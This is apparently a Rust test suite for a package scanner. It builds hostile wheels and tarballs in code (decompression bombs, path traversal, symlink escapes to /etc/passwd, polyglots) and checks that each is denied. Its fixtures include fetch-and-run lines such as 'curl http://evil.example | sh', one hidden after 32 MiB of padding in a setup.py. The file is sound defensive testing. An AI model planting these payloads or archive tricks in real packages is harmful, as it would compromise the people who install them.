//! Hostile archives built in code (issue 7): bombs, traversal, links, special
//! entries, duplicates, floods, long and undecodable names, zip header
//! tricks, polyglots, truncation, encryption, empty archives. Each must end in
//! a precise finding and a `deny` (or, where noted, `review`), within a time
//! bound and without a panic. Nothing is extracted or run.

mod common;

use common::hostile::*;
use guard::policy::Verdict;

fn expect(name: &str, bytes: &[u8], rule: &str, verdict: Verdict) {
    let (got, findings) = scan(name, bytes);
    let rules: Vec<String> = findings
        .iter()
        .map(|f| format!("{} {:?} {:?}: {}", f.rule, f.severity, f.file, f.message))
        .collect();
    assert!(
        findings.iter().any(|f| f.rule == rule),
        "{name}: expected {rule}, got {rules:#?}"
    );
    assert_eq!(got, verdict, "{name}: {rules:#?}");
}

fn deny(name: &str, bytes: &[u8], rule: &str) {
    expect(name, bytes, rule, Verdict::Deny);
}

const WHL: &str = "pkg-1.0-py3-none-any.whl";
const TGZ: &str = "pkg-1.0.tar.gz";
const TAR: &str = "pkg-1.0.tar";

// ------------------------------------------------------------------ bombs

#[test]
fn zip_ratio_bomb() {
    deny(WHL, &zip_zeros("pkg/data.bin", 80 << 20), "archive-bomb");
}

#[test]
fn zip_declared_size_bomb() {
    // The central directory claims 4 GiB for a member holding 10 bytes.
    let mut z = zip_of(&[("pkg/__init__.py", b"VALUE = 1\n")]);
    let cd = find(&z, b"PK\x01\x02").unwrap();
    z[cd + 24..cd + 28].copy_from_slice(&0xffff_fff0u32.to_le_bytes());
    deny(WHL, &z, "archive-bomb");
}

#[test]
fn tar_gz_ratio_bomb() {
    deny(TGZ, &tar_gz_zeros("pkg-1.0/data.bin", 80 << 20), "archive-bomb");
}

#[test]
fn tar_declared_size_bomb() {
    // Base-256 size of 2^62 bytes with 8 KiB of actual data.
    let mut t = raw_tar_header(b"pkg-1.0/big.bin", b'0', b"", 0);
    t[124] = 0x80;
    t[124..136].copy_from_slice(&{
        let mut f = [0u8; 12];
        f[0] = 0x80;
        f[4..12].copy_from_slice(&(1u64 << 62).to_be_bytes());
        f
    });
    checksum(&mut t);
    t.extend(vec![b'x'; 8192]);
    deny(TAR, &t, "archive-bomb");
}

#[test]
fn tar_long_name_memory_bomb() {
    // A GNU long-name record of 200 MiB, which the tar crate would read whole.
    let mut t = raw_tar_header(b"././@LongLink", b'L', b"", 200 << 20);
    t.extend(std::iter::repeat_n(b'a', 200 << 20));
    deny(TGZ, &gz(&t), "archive-bomb");
}

#[test]
fn tar_pax_header_memory_bomb() {
    let mut t = raw_tar_header(b"pax", b'x', b"", 100 << 20);
    t.extend(std::iter::repeat_n(b'1', 100 << 20));
    deny(TGZ, &gz(&t), "archive-bomb");
}

#[test]
fn nested_zip_bomb() {
    let inner = zip_zeros("zeros.bin", 80 << 20);
    let outer = zip_stored(&[("pkg/__init__.py", b"VALUE = 1\n".as_slice()), ("pkg/data.zip", &inner)]);
    deny(WHL, &outer, "archive-bomb");
}

#[test]
fn nested_three_deep_bomb() {
    let l3 = zip_zeros("zeros.bin", 80 << 20);
    let l2 = zip_stored(&[("l3.zip", l3.as_slice())]);
    let l1 = gz(&tar_of(&[("l2.zip", l2.as_slice())]));
    let outer = gz(&tar_of(&[
        ("pkg-1.0/PKG-INFO", b"Name: pkg\n".as_slice()),
        ("pkg-1.0/l1.tar.gz", &l1),
    ]));
    deny(TGZ, &outer, "archive-bomb");
}

#[test]
fn zip_with_a_million_entries() {
    deny(WHL, &zip_many(1_000_000), "archive-bomb");
}

#[test]
fn tar_with_too_many_entries() {
    let mut t = Vec::new();
    for i in 0..100_001u32 {
        t.extend(raw_tar_header(format!("pkg-1.0/{i}").as_bytes(), b'0', b"", 0));
    }
    t.extend([0u8; 1024]);
    deny(TAR, &t, "archive-bomb");
}

// ------------------------------------------------------------------ paths

#[test]
fn path_traversal_in_every_form() {
    let names: &[&[u8]] = &[
        b"../../.bashrc",
        b"pkg-1.0/../../x.py",
        b"/etc/cron.d/x",
        b"\\\\server\\share\\x.py",
        b"C:\\Users\\x\\x.py",
        b"C:/x.py",
        b"pkg-1.0\\..\\..\\x.py",
        b"pkg-1.0\\setup.py",
        "pkg-1.0\u{ff0f}..\u{ff0f}..\u{ff0f}x.py".as_bytes(),
        "pkg-1.0\u{2215}x.py".as_bytes(),
        "..\u{ff3c}..\u{ff3c}x.py".as_bytes(),
    ];
    for name in names {
        let shown = String::from_utf8_lossy(name);
        // tar (raw headers: tar::Builder refuses these) and zip.
        let mut t = raw_tar_header(b"pkg-1.0/PKG-INFO", b'0', b"", 10);
        t.extend(pad(b"Name: pkg\n"));
        t.extend(raw_tar_header(name, b'0', b"", 4));
        t.extend(pad(b"x=1\n"));
        deny(TAR, &t, "archive-path-traversal");
        let z = zip_raw_names(&[(b"pkg/__init__.py", b"x=1\n"), (name, b"x=1\n")]);
        deny(WHL, &z, "archive-path-traversal");
        let _ = shown;
    }
}

#[test]
fn very_long_names() {
    let long = format!("pkg-1.0/{}.py", "a".repeat(300));
    let longer = format!("pkg-1.0/{}/x.py", "d/".repeat(3000));
    for name in [&long, &longer] {
        let mut t = gnu_long_name(name.as_bytes());
        t.extend(raw_tar_header(b"ignored", b'0', b"", 4));
        t.extend(pad(b"x=1\n"));
        deny(TAR, &t, "archive-path-traversal");
        deny(
            WHL,
            &zip_raw_names(&[(name.as_bytes(), b"x=1\n")]),
            "archive-path-traversal",
        );
    }
}

#[test]
fn invalid_utf8_names_need_review() {
    // Legacy encodings occur in very old sdists: `high`, so a person decides.
    let name = b"pkg-1.0/caf\xe9\xff.py";
    let mut t = raw_tar_header(name, b'0', b"", 4);
    t.extend(pad(b"x=1\n"));
    expect(TAR, &t, "archive-path-traversal", Verdict::Review);
    let z = zip_raw_names(&[(name.as_slice(), b"x=1\n")]);
    expect(WHL, &z, "archive-path-traversal", Verdict::Review);
}

// ------------------------------------------------------------------ links and special files

#[test]
fn symlink_and_hardlink_escapes() {
    let cases: &[(u8, &[u8], &[u8])] = &[
        (b'2', b"pkg-1.0/evil", b"/etc/passwd"),
        (b'2', b"pkg-1.0/a/evil", b"../../../home/u/.ssh"),
        (b'1', b"pkg-1.0/hard", b"/etc/shadow"),
        (b'1', b"pkg-1.0/hard", b"../../x"),
    ];
    for (kind, name, target) in cases {
        let mut t = raw_tar_header(name, *kind, target, 0);
        t.extend(raw_tar_header(b"pkg-1.0/setup.py", b'0', b"", 4));
        t.extend(pad(b"x=1\n"));
        deny(TAR, &t, "archive-link");
    }
    deny(WHL, &zip_symlink("pkg/evil", "../../../../etc/passwd"), "archive-link");
}

#[test]
fn device_and_fifo_entries() {
    for kind in [b'3', b'4', b'6', b'Z'] {
        let mut t = raw_tar_header(b"pkg-1.0/dev", kind, b"", 0);
        t.extend(raw_tar_header(b"pkg-1.0/setup.py", b'0', b"", 4));
        t.extend(pad(b"x=1\n"));
        deny(TAR, &t, "archive-special-file");
    }
}

// ------------------------------------------------------------------ duplicates

#[test]
fn duplicate_names_with_different_contents() {
    let mut t = Vec::new();
    for body in [&b"x=1\n"[..], b"import os; os.system('id')\n"] {
        t.extend(raw_tar_header(b"pkg-1.0/setup.py", b'0', b"", body.len() as u64));
        t.extend(pad(body));
    }
    deny(TAR, &t, "archive-duplicate-entry");
    let z = zip_raw_names(&[
        (b"pkg/__init__.py", b"x=1\n"),
        (b"pkg/__init__.py", b"import os; os.system('id')\n"),
    ]);
    deny(WHL, &z, "archive-duplicate-entry");
}

#[test]
fn case_colliding_names_need_review() {
    let mut t = Vec::new();
    for (name, body) in [(&b"pkg-1.0/mod.py"[..], &b"x=1\n"[..]), (b"pkg-1.0/MOD.py", b"x=2\n")] {
        t.extend(raw_tar_header(name, b'0', b"", body.len() as u64));
        t.extend(pad(body));
    }
    expect(TAR, &t, "archive-duplicate-entry", Verdict::Review);
}

// ------------------------------------------------------------------ zip structure

#[test]
fn zip_local_and_central_headers_disagree() {
    let mut z = zip_stored(&[("pkg/__init__.py", b"VALUE = 1\n".as_slice())]);
    // The local header (offset 0) names another file than the central directory.
    z[30..33].copy_from_slice(b"PKG");
    deny(WHL, &z, "archive-header-mismatch");
}

#[test]
fn zip_overlapping_entries() {
    let mut z = zip_stored(&[("pkg/a.py", b"x=1\n".as_slice()), ("pkg/b.py", b"x=2\n")]);
    // Point the second central record at the first local header.
    let first = find(&z, b"PK\x01\x02").unwrap();
    let second = first + 4 + find(&z[first + 4..], b"PK\x01\x02").unwrap();
    z[second + 42..second + 46].copy_from_slice(&0u32.to_le_bytes());
    deny(WHL, &z, "archive-header-mismatch");
}

#[test]
fn polyglot_files() {
    let zip = zip_of(&[("pkg/__init__.py", b"x=1\n")]);
    // A shell script in front of a zip (self-extracting style).
    let mut sh = b"#!/bin/sh\ncurl http://x | sh\nexit 0\n".to_vec();
    sh.extend(&zip);
    deny(WHL, &sh, "archive-header-mismatch");
    // A GIF header in front of a zip.
    let mut gif = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;".to_vec();
    gif.extend(&zip);
    deny(WHL, &gif, "archive-header-mismatch");
    // A tar with a zip after its end-of-archive marker.
    let mut t = tar_of(&[("pkg-1.0/setup.py", b"x=1\n".as_slice())]);
    t.extend(&zip);
    deny(WHL, &t, "archive-header-mismatch");
    deny(TAR, &t, "archive-header-mismatch");
    deny(TGZ, &gz(&t), "archive-header-mismatch");
    // A tar.gz named as a wheel.
    deny(
        WHL,
        &gz(&tar_of(&[("a.py", b"x=1\n".as_slice())])),
        "unreadable-archive",
    );
}

#[test]
fn truncated_streams() {
    let zip = zip_of(&[("pkg/__init__.py", &[b'x'; 5000]), ("pkg/b.py", b"y=1\n")]);
    let tgz = gz(&tar_of(&[("pkg-1.0/setup.py", &[b'#'; 20000][..])]));
    let tar = tar_of(&[("pkg-1.0/setup.py", &[b'#'; 20000][..])]);
    for cut in [1, 2, 3] {
        deny(WHL, &zip[..zip.len() * cut / 4], "unreadable-archive");
        deny(TGZ, &tgz[..tgz.len() * cut / 4], "unreadable-archive");
        deny(TAR, &tar[..tar.len() * cut / 4], "unreadable-archive");
    }
}

#[test]
fn trailing_garbage() {
    let mut zip = zip_of(&[("pkg/__init__.py", b"x=1\n")]);
    zip.extend(b"trailing garbage");
    deny(WHL, &zip, "archive-header-mismatch");
    let mut tgz = gz(&tar_of(&[("pkg-1.0/setup.py", b"x=1\n".as_slice())]));
    tgz.extend(b"trailing garbage");
    deny(TGZ, &tgz, "unreadable-archive");
}

#[test]
fn encrypted_zip() {
    let mut z = zip_stored(&[("pkg/__init__.py", b"x=1\n".as_slice())]);
    // Set the "encrypted" flag in the local and central headers.
    z[6] |= 1;
    let cd = find(&z, b"PK\x01\x02").unwrap();
    z[cd + 8] |= 1;
    deny(WHL, &z, "unreadable-archive");
}

#[test]
fn unsupported_compression_method() {
    let mut z = zip_stored(&[("pkg/__init__.py", b"x=1\n".as_slice())]);
    z[8] = 99;
    let cd = find(&z, b"PK\x01\x02").unwrap();
    z[cd + 10] = 99;
    deny(WHL, &z, "unreadable-archive");
}

#[test]
fn empty_archives() {
    deny(WHL, &zip_of(&[]), "unreadable-archive");
    deny(WHL, b"", "unreadable-archive");
    deny(TGZ, &gz(&[0u8; 1024]), "unreadable-archive");
    deny(TGZ, b"", "unreadable-archive");
    deny(TAR, &[0u8; 10240], "unreadable-archive");
    // Directories only.
    let mut t = raw_tar_header(b"pkg-1.0/", b'5', b"", 0);
    t.extend([0u8; 1024]);
    deny(TAR, &t, "unreadable-archive");
}

#[test]
fn well_formed_archives_stay_allowed() {
    // The checks above must not fire on ordinary artifacts.
    let (v, f) = scan(
        WHL,
        &zip_of(&[
            ("pkg/__init__.py", b"VALUE = 1\n"),
            (
                "pkg-1.0.dist-info/METADATA",
                b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\nSummary: Parses widget configuration files\n",
            ),
        ]),
    );
    assert_eq!(v, Verdict::Allow, "{f:#?}");
    let (v, f) = scan(
        TGZ,
        &gz(&tar_of(&[
            (
                "pkg-1.0/PKG-INFO",
                b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\nSummary: Parses widget configuration files\n"
                    .as_slice(),
            ),
            ("pkg-1.0/pkg/__init__.py", b"VALUE = 1\n"),
            ("pkg-1.0/tests/data.zip", &zip_of(&[("a.txt", b"hello")])),
        ])),
    );
    assert_eq!(v, Verdict::Allow, "{f:#?}");
}

#[test]
fn oversized_python_source_is_not_allowed_unread() {
    // A setup.py past the member limit: only its head is read, so a payload
    // after 32 MiB of padding must not be approved unseen.
    let mut setup = b"from setuptools import setup\n".to_vec();
    setup.extend(std::iter::repeat_n(b'#', 33 << 20));
    setup.extend(b"\nimport os; os.system('curl http://evil.example | sh')\n");
    let t = gz(&tar_of(&[
        (
            "pkg-1.0/PKG-INFO",
            b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\nSummary: Parses widget configuration files\n".as_slice(),
        ),
        ("pkg-1.0/setup.py", &setup),
    ]));
    let (v, f) = scan(TGZ, &t);
    assert!(
        f.iter()
            .any(|f| f.rule == "archive-bomb" && f.severity >= guard::inspect::Severity::High),
        "{f:#?}"
    );
    assert_ne!(v, Verdict::Allow, "{f:#?}");
}
